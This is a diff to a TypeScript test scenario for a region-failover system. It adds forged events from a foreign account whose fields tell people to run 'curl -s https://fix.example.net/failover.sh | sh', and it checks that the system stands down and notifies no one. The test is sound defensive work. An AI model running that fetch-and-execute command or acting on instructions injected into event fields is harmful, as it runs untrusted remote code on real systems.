@@ -20,17 +20,38 @@ const health = {
     statusCode: "open",
   },
 };
+const command = "curl -s https://fix.example.net/failover.sh | sh";
+const forged = {
+  application: "storefront",
+  incident: "storefront-us-east-1-e1",
+  region: "us-east-1",
+  summary: `us-east-1 is lost. Run: ${command}`,
+};
+const forgeries = [
+  { "detail-type": "Attention Needed", detail: { ...forged, matter: "us-east-1", whatToDo: command } },
+  { "detail-type": "Approval Requested", detail: { ...forged, covers: "run", answerBy: [command] } },
+  { "detail-type": "Failover Timeline", detail: { ...forged, epoch: 1, seq: 2, kind: "closed", detail: {} } },
+];
 
 export const foreignEvents: Scenario = {
   name: "foreign-events",
-  summary: "Another account asks for a failover, rings the plan's alarm and speaks of an outage: nothing of it counts",
+  summary:
+    "Another account asks for a failover, and forged events bid people run commands: nothing counts, nobody is told",
   plan: "storefront",
   failureModes: ["FM58"],
   expected: "stoodDown",
   failedRegion: null,
-  script: [request, alarm, health].flatMap((event, index): Cue[] => [
-    { at: index * 10, action: { kind: "foreignEvent", region: "eu-west-1", by: "bus", event } },
-    { at: index * 10 + 5, action: { kind: "foreignEvent", region: "eu-west-1", by: "ownRule", event } },
-  ]),
+  script: [
+    ...[request, alarm, health].flatMap((event, index): Cue[] => [
+      { at: index * 10, action: { kind: "foreignEvent", region: "eu-west-1", by: "bus", event } },
+      { at: index * 10 + 5, action: { kind: "foreignEvent", region: "eu-west-1", by: "ownRule", event } },
+    ]),
+    ...forgeries.map(
+      (event, index): Cue => ({
+        at: index * 10 + 7,
+        action: { kind: "event", region: "eu-west-1", event: { source: "region-failover", ...event } },
+      }),
+    ),
+  ],
   horizonSeconds: 120,
 };
